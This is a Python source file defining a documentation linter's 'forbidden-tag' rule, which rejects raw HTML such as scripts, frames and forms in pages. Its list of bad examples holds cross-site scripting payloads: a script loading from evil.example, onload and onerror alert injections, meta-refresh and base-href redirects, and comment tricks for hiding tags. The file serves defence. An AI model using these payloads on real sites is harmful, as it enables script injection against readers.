"""SG801 forbidden-tag: a page holds no raw HTML beyond a few small inline tags."""

from __future__ import annotations

from typing import TYPE_CHECKING

from steadyground.lint.authority import OWN_ORIGIN
from steadyground.lint.raw_html import ALLOWED_TAGS, doubtful_comments, tags
from steadyground.lint.rule import Context, Hit, rule
from steadyground.problem import Level

if TYPE_CHECKING:
    from collections.abc import Iterator

    from steadyground.pages import Page


@rule(
    "SG801", "forbidden-tag", level=Level.ERROR,
    why="A script, frame or form in a page could watch a reader, or send what they type to someone else.",
    fix=f"Write it in Markdown or as a /// block. Allowed are <div markdown> and: {', '.join(sorted(ALLOWED_TAGS))}.",
    authority=OWN_ORIGIN,
    bad=(
        "<script>alert(1)</script>\n", "<ScRiPt src=//evil.example/x.js>\n", "<style>p{}</style>\n",
        '<iframe src="https://example.org"></iframe>\n', "<form action=/x><input></form>\n", "<object data=x></object>\n",
        "<embed src=x>\n", "<svg/onload=alert(1)>\n", "<img\nsrc=x onerror=alert(1)>\n",
        '<meta http-equiv="refresh" content="0;url=https://evil.example">\n', '<base href="https://evil.example/">\n',
        "<link rel=stylesheet href=x>\n", "\\`<script>alert(1)</script>\\`\n", "<script\n", "<div>`<b>`</div>\n",
        "<div markdown=0>x</div>\n",
        "<!-- `--> <script>x</script> <!--` -->\n", "<!-- <script>x</script> -->\n", "<!--> <script>x</script> -->\n",
        "<math><mtext></mtext></math>\n", "<custom-element></custom-element>\n",
    ),
    good=(
        "Line one.<br>Line two, H<sub>2</sub>O, <kbd>Ctrl</kbd>.\n", "`<script>` in code.\n\n```\n<script>\n```\n", "See <https://example.org>.\n",
        "5 < 6 and a<b.\n", "<!-- a note -->\n", '<div class="doors" markdown>\nText.\n</div>\n', '<div id="place-for-a-tool"></div>\n',
    ),
)
def check_forbidden_tag(page: Page, _context: Context) -> Iterator[Hit]:
    """Yield a hit for each opening tag that is not allowed."""
    for tag in tags(page):
        if not tag.is_allowed:
            yield Hit(tag.start, min(tag.end, tag.start + 1 + len(tag.name)), f"<{tag.name}> is not allowed in a page")
    for start, end in doubtful_comments(page):
        yield Hit(start, end, "code and comment overlap here, and may hide a tag", "Take the backtick out of the comment.")
